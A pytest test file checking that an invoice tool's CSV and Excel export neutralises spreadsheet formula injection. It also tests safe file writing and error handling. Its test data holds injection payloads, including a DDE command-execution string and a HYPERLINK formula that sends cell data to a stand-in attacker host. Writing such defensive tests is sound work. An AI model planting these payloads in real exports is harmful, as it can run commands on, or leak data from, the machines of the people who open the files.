"""The table for accountants, of what people and invoices with hostile names sent, by the installed command."""

from __future__ import annotations

import csv
import io
import json
import os
import pty
import socket
import stat
import subprocess
from collections.abc import Iterator
from email.message import EmailMessage
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from tests.support.raw_server import RawServer, answer
from tests.support.servers.dovecot import Dovecot
from tests.support.tmpfs import small_disk
from tests.support.workplace import COMMAND, ZHANG, Workplace, pdf
from watcher.sandbox.endpoint import Endpoint
from watcher.sandbox.endpoint_content import invoice, to_json

HOSTILE = [
    "=cmd|'/c calc'!A1",
    "+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1",
    "＝1",
    "\n=1",
    "\u202e=1",
    "'=1",
    '"=HYPERLINK("http://evil.example/?"&A1)',
    "a;=1",
    "=1\x00",
]
SENDER = "=1@corp.example"
DANGEROUS = tuple("=+-@\t\r\n＝＋－＠")


def recognise(connection: socket.socket, server: RawServer) -> None:
    """Finds an invoice of each hostile seller in whatever it is sent; each is booked."""
    request = server.read_request(connection)
    if not request:
        return
    url = json.loads(request.partition(b"\r\n\r\n")[2])["data"]["attachment_url"]
    found = []
    for index, words in enumerate(HOSTILE):
        item = invoice(url, index)
        item["ocr_result"] |= {"seller_name": words, "name": words, "invoice_code": words}
        item["expense_result"] = {"expense_id": f"{len(server.requests)}{index:04}", "invoice_message": words}
        found.append(item)
    connection.sendall(answer(to_json({"resCode": 200000, "resMsg": "success", "data": found}).encode()))


def mail() -> bytes:
    message = EmailMessage()
    message["From"] = SENDER
    message["To"] = "fapiao@corp.example"
    message["Subject"] = "@SUM(A1)"
    message["Message-ID"] = "<one@corp.example>"
    message.set_content("=1")
    message.add_attachment(pdf("mail"), maintype="application", subtype="pdf", filename="=cmd|' calc'!A1.pdf")
    return message.as_bytes()


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory, dovecot: Dovecot) -> Iterator[Workplace]:
    """Where a mail was answered, a file, and that file once more."""
    account = dovecot.account()
    account.append(mail())
    with RawServer(recognise) as server:
        place = Workplace(tmp_path_factory.mktemp("hostile") / "work", server).with_folder()
        place.with_mailbox(dovecot.host, dovecot.port, account.username, account.password).write()
        place.root.joinpath("employees.csv").write_text(
            f'email,user_code,name,language\n{SENDER},000042,"=1+1",zh\n', encoding="utf-8"
        )
        place.drop("+1;=2.pdf", pdf("file"))
        assert place.command("run", "--once").returncode == 0
        place.drop("-3.pdf", pdf("file"))
        place.command("run", "--once")
        yield place


def export(place: Workplace, *arguments: str | Path, **options: Any) -> subprocess.CompletedProcess[bytes]:
    """The command as it is, with bytes in and out."""
    given = {"stdout": subprocess.PIPE, "stderr": subprocess.PIPE, "timeout": 120, **options}
    return subprocess.run([COMMAND, "--config", place.config_file, "export", *arguments], check=False, **given)


def read(raw: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


@pytest.fixture(scope="module")
def table(hostile: Workplace) -> list[dict[str, str]]:
    """What is written to standard output."""
    answer = export(hostile)
    assert (answer.returncode, answer.stderr) == (0, b"")
    assert answer.stdout.startswith(b"\xef\xbb\xbf")
    return read(answer.stdout)


def test_what_hostile_people_and_sellers_wrote_is_no_formula_in_csv(table: list[dict[str, str]]) -> None:
    assert len(table) == 3 * len(HOSTILE)
    cells = [cell for row in table for cell in row.values()]
    assert [cell for cell in cells if cell.lstrip(" \"'").startswith(DANGEROUS) and not cell.startswith("'")] == []
    assert {row["seller_name"] for row in table} >= {"'=cmd|'/c calc'!A1", "'+1", "'-2+3", "'@SUM(1+1)", "'＝1", "'=1"}
    mailed = [row for row in table if row["kind"] == "mail"]
    assert {row["sender"] for row in mailed} == {f"'{SENDER}"}
    assert {row["subject"] for row in mailed} == {"'@SUM(A1)"}
    assert {row["document_name"] for row in mailed} == {"'=cmd|' calc'!A1.pdf"}
    assert {row["person_name"] for row in mailed} == {"'=1+1"}
    assert {row["user_code"] for row in mailed} == {"000042"}


def test_the_rows_are_what_list_says_and_a_duplicate_is_not_in_the_sum(
    hostile: Workplace, table: list[dict[str, str]]
) -> None:
    told = [
        (submission["id"], str(document["id"]), invoice["number"], invoice["amount"], invoice["expense_id"])
        for submission in hostile.submissions()
        for document in submission["documents"]
        for invoice in document["invoices"]
    ]
    keys = ("submission_id", "document_id", "number")
    rows = [
        (*(row[key] for key in keys), row["amount"] or row["amount_not_counted"], row["expense_id"]) for row in table
    ]
    assert sorted(rows) == sorted(told)
    assert [row["received_at"] for row in table] == sorted(row["received_at"] for row in table)
    again = [row for row in table if row["outcome"] == "duplicate"]
    assert len(again) == len(HOSTILE)
    assert all((row["counted"], row["amount"], row["tax_amount"]) == ("false", "", "") for row in again)
    assert {row["duplicate_of"] for row in again} < {row["document_id"] for row in table if row["counted"] == "true"}


def test_a_workbook_has_no_formula_either_and_keeps_numbers_whole(
    hostile: Workplace, table: list[dict[str, str]], tmp_path: Path
) -> None:
    target = tmp_path / "invoices.xlsx"

    answer = export(hostile, "--output", target)

    assert (answer.returncode, answer.stderr) == (0, b"")
    assert answer.stdout.decode() == f"{target}: {3 * len(HOSTILE)} rows\n"
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    assert list(tmp_path.iterdir()) == [target]
    sheet = openpyxl.load_workbook(target).active
    heading, *cells = list(sheet.iter_rows())
    assert {cell.data_type for row in cells for cell in row} == {"s", "n", "b", "d"}
    assert not [cell.value for row in cells for cell in row if str(cell.value).startswith(DANGEROUS)]
    names = [cell.value for cell in heading]
    assert names == list(table[0])
    for name in ("number", "user_code", "seller_name", "document_name", "subject", "biz_id"):
        assert [row[names.index(name)].value or "" for row in cells] == [row[name] for row in table]
    amounts = [row[names.index("amount")] for row in cells]
    assert {cell.data_type for cell in amounts if cell.value is not None} == {"n"}
    assert sum(cell.value or 0 for cell in amounts) == pytest.approx(sum(float(row["amount"] or 0) for row in table))


def test_a_workbook_goes_through_a_pipe(hostile: Workplace) -> None:
    answer = export(hostile, "--format", "xlsx")

    assert (answer.returncode, answer.stderr) == (0, b"")
    assert openpyxl.load_workbook(io.BytesIO(answer.stdout)).active.max_row == 1 + 3 * len(HOSTILE)


def test_a_terminal_gets_no_workbook_and_is_told_what_to_write(hostile: Workplace) -> None:
    reading, terminal = pty.openpty()

    answer = export(hostile, "--format", "xlsx", stdout=terminal)

    os.close(terminal)
    os.close(reading)
    assert answer.returncode == 2
    assert b"--output FILE" in answer.stderr


def test_since_is_understood_as_list_understands_it(hostile: Workplace) -> None:
    assert len(read(export(hostile, "--since", "1h").stdout)) == 3 * len(HOSTILE)
    assert read(export(hostile, "--since", "2090-01-01").stdout) == []
    wrong = export(hostile, "--since", "yesterday")
    assert (wrong.returncode, wrong.stdout) == (2, b"")
    assert b"--since" in wrong.stderr


def test_a_file_is_replaced_when_the_new_one_is_whole_and_keeps_its_mode(hostile: Workplace, tmp_path: Path) -> None:
    target, link = tmp_path / "there.csv", tmp_path / "link.csv"
    target.write_text("old")
    target.chmod(0o640)
    link.symlink_to(target)

    assert export(hostile, "--output", link).returncode == 0

    assert len(read(target.read_bytes())) == 3 * len(HOSTILE)
    assert stat.S_IMODE(target.stat().st_mode) == 0o640
    assert link.is_symlink()
    assert sorted(path.name for path in tmp_path.iterdir()) == ["link.csv", "there.csv"]


@pytest.mark.parametrize("name", ["invoices.csv", "invoices.xlsx"])
def test_a_disk_that_is_full_leaves_the_file_that_was_there(hostile: Workplace, tmp_path: Path, name: str) -> None:
    with small_disk(tmp_path / "disk", "64k") as disk:
        target = disk.path / name
        target.write_text("old")
        disk.fill(leave=8192)

        answer = export(hostile, "--output", target)

        assert answer.returncode == 1
        assert answer.stderr.decode() == f"invoice-watcher: {target} cannot be written: No space left on device\n"
        assert target.read_text() == "old"
        assert sorted(path.name for path in disk.path.iterdir()) == ["ballast", name]


@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_output_that_is_lost_is_told_as_of_other_commands(hostile: Workplace, form: str) -> None:
    with Path("/dev/full").open("wb") as full:
        lost = export(hostile, "--format", form, stdout=full)
    reading, writing = os.pipe()
    os.close(reading)
    unread = export(hostile, "--format", form, stdout=writing)
    os.close(writing)

    assert lost.returncode == unread.returncode == 1
    assert lost.stderr.decode().endswith("No space left on device\n")
    assert lost.stderr.count(b"\n") == 1
    assert unread.stderr == b""


def test_a_device_or_pipe_that_is_named_is_written_to(hostile: Workplace) -> None:
    answer = export(hostile, "--output", "/dev/stderr")

    assert answer.returncode == 0
    assert len(read(answer.stderr)) == 3 * len(HOSTILE)
    assert Path("/dev/stderr").exists()


def test_a_place_where_no_file_can_be_is_named(hostile: Workplace, tmp_path: Path) -> None:
    loop = tmp_path / "loop"
    loop.symlink_to(loop)
    for target in (tmp_path / "missing" / "a.csv", tmp_path, loop):
        answer = export(hostile, "--output", target)
        assert answer.returncode == 1
        assert f"{target} cannot be written: ".encode() in answer.stderr
        assert answer.stderr.count(b"\n") == 1
    assert export(hostile, "--format", "pdf").returncode == 2
    assert list(tmp_path.iterdir()) == [loop]


def test_without_a_journal_no_file_is_made_and_beside_a_daemon_there_is_a_table(
    tmp_path: Path, endpoint: Endpoint
) -> None:
    place = Workplace(tmp_path, endpoint).with_folder().write()
    target = tmp_path / "invoices.csv"

    early = export(place, "--output", target)
    assert early.returncode == 1
    assert b"Traceback" not in early.stderr
    assert not target.exists()

    with place.daemon():
        assert read(export(place).stdout) == []
        place.drop("a.pdf", pdf("a"), ZHANG)
        place.closed(1)
        (row,) = read(export(place).stdout)
    assert row["user_code"] == ZHANG
